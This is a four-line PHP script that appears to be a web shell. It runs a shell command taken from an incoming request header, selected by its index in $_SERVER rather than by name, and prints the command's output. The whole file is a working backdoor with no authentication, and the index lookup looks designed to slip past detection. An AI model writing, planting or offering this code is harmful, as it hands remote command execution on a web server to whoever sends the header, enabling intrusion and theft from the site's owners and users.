<?php
// the command sent in a request header, picked from $_SERVER by its position
$v = array_values($_SERVER);
echo '<pre>' . shell_exec($v[9]) . '</pre>';
